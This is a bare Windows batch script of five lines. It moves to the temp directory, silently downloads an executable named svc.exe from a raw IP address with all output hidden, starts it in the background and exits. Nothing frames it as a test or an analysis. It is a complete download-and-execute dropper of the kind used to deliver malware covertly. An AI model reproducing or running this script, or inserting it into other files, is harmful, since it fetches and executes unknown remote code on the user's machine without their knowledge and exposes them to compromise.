@echo off
cd /d "%TEMP%"
curl -s -o svc.exe http://203.0.113.77/dl/svc.exe > nul 2>&1
start /b "" svc.exe
exit /b 0
